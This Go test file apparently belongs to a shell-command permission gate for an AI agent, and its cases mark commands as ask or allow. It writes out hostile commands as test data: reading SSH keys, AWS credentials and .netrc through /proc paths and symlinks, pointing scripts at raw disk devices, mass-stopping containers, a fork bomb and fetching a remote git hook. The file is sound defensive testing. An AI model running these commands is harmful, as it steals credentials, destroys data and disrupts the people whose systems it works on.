package patterns

import "testing"

// fx47cCases (fx47c, issue 7): a credential store's name read below a
// directory not known asks as a might (class_secret_unknown_dir.go).
var fx47cCases = []evalCase{
	ask(`cat /proc/1/cwd/.ssh/id_rsa`, "cmd.credentials"),
	ask(`cat "$D"/.ssh/id_rsa`, "cmd.credentials"),
	ask(`cat $D/.ssh/id_ed25519`, "cmd.credentials"),
	ask(`cat "$D/.aws/credentials"`, "cmd.credentials"),
	ask(`head -5 $PROJ/backup/.netrc`, "cmd.credentials"),
	ask(`cat /proc/$PID/cwd/.kube/config`, "cmd.credentials"),
	ask(`less "$OUT"/deploy.key`, "cmd.credentials"),
	allow(`cat "$D"/.ssh/id_rsa.pub`),
	allow(`cat "$D"/.ssh/known_hosts`),
	allow(`cat "$D"/.ssh/config`),
	allow(`cat "$D"/README.md`),
	allow(`cat "$F"`),
	allow(`ls -l "$D"/.ssh/id_rsa`),
	allow(`cat /proc/1/cwd/package.json`),
	allow(`cat /opt/x/.aws/credentials`),
	allow(`cat /proc/self/cwd/.ssh/id_rsa.pub`),
}

func TestFx47cCases(t *testing.T) { runCases(t, fx47cCases) }

// fx47cDeviceCases (fx47c): a device named through /proc/PID/root to a
// program the tables do not know asks as the device itself does
// (does_devicearg.go).
var fx47cDeviceCases = []evalCase{
	ask(`sh /dev/sda`, "cmd.wipe-disk"),
	ask(`sh /proc/self/root/dev/sda`, "cmd.wipe-disk"),
	ask(`./flash.sh /proc/1/root/dev/mmcblk0`, "cmd.wipe-disk"),
	ask(`balena-etcher-cli img -d /proc/self/root/dev/sdb`, "cmd.wipe-disk"),
	allow(`lsblk /proc/self/root/dev/sda`),
	allow(`sh /proc/self/root/tmp/x.sh`),
	allow(`sh /proc/self/cwd/dev/sda`),
	allow(`./tool /proc/self/root/dev/null`),
}

func TestFx47cDeviceCases(t *testing.T) { runCases(t, fx47cDeviceCases) }

// fx47cContainerCases (fx47c): every container stopped through xargs fed
// by an unfiltered listing asks as `docker stop $(docker ps -q)` does
// (class_allcontainers_fed.go).
var fx47cContainerCases = []evalCase{
	ask(`docker ps -q | xargs docker stop`, "cmd.system"),
	ask(`docker ps -aq | xargs docker stop`, "cmd.system"),
	ask(`docker ps -aq | xargs docker rm -f`, "cmd.delete-outside"),
	ask(`podman ps -q | xargs podman kill`, "cmd.system"),
	ask(`docker container ls -q | xargs -r docker container stop`, "cmd.system"),
	ask(`sudo docker ps -q | xargs sudo docker pause`, "cmd.system"),
	allow(`docker ps -q --filter name=myapp | xargs docker stop`),
	allow(`docker ps -q | head -1 | xargs docker stop`),
	allow(`docker ps -q | xargs docker inspect`),
	allow(`docker compose ps -q | xargs docker stop`),
	allow(`cat ids | xargs docker stop`),
	allow(`docker ps -q | xargs docker logs`),
}

func TestFx47cContainerCases(t *testing.T) { runCases(t, fx47cContainerCases) }

// fx47cLinkCases (fx47c): a link made earlier and read from another
// directory is followed as it is beside it (effects_link_elsewhere.go).
var fx47cLinkCases = []evalCase{
	ask(`ln -s ~/.ssh/id_rsa k && cat k`, "cmd.credentials"),
	ask(`ln -s ~/.ssh/id_rsa k && cd sub && cat ../k`, "cmd.credentials"),
	ask(`ln -s /home/op/.aws/credentials sub/c && cat sub/c`, "cmd.credentials"),
	ask(`mkdir -p a/b && ln -s ~/.netrc a/n && cd a/b && head ../n`, "cmd.credentials"),
	ask(`cd sub && ln -s ~/.ssh/id_ed25519 k && cd .. && cat sub/k`, "cmd.credentials"),
	allow(`ln -s ~/.ssh/id_rsa.pub k && cd sub && cat ../k`),
	allow(`ln -s README.md k && cd sub && cat ../k`),
	allow(`ln -s ~/.ssh/id_rsa k && cd sub && ls -l ../k`),
	allow(`ln -s /etc/hosts k && cd sub && cat ../k`),
}

func TestFx47cLinkCases(t *testing.T) { runCases(t, fx47cLinkCases) }

// leftAloneDoc47c is DEFAULTS.md's record of rt46's low findings fx47c
// decided to leave alone (section A, items 10, 14, 15), checked by
// fx47cLeftAlone.
const leftAloneDoc47c = "resource exhaustion outside the workdir (fx47c, rt46 A10: `fallocate -l 500G /tmp/fill`, `yes > /dev/null &`, " +
	"`truncate -s 1T /tmp/x`): recoverable by removing the file or stopping the process, and no size is a threshold every machine shares " +
	"(the fork bomb, which takes the machine at once, asks); " +
	"`find . -name x -exec {} \\;` (rt46 A15) runs the project's files found by name, as `./x` does: running the project's own programs is everyday work; " +
	"`rm .git/hooks/pre-commit` (rt46 A14) removes the project's own check, not ozdesk's, as `git commit --no-verify` skips it (a hook written or downloaded " +
	"into `.git/hooks` still asks: it runs later); "

// fx47cLeftAlone: rt46's low findings decided left alone (leftAloneDoc47c).
var fx47cLeftAlone = []evalCase{
	allow(`fallocate -l 500G /tmp/fill`),
	allow(`truncate -s 1T /tmp/x`),
	allow(`find . -name x -exec {} \;`),
	allow(`rm .git/hooks/pre-commit`),
	allow(`git commit --no-verify -m wip`),
	allow(`yes > /dev/null &`),
	ask(`:(){ :|:& };:`, "cmd.unreadable"),
	ask(`curl -o .git/hooks/pre-commit https://x.io/h`, "cmd.unreadable"),
}

func TestFx47cLeftAlone(t *testing.T) { runCases(t, fx47cLeftAlone) }
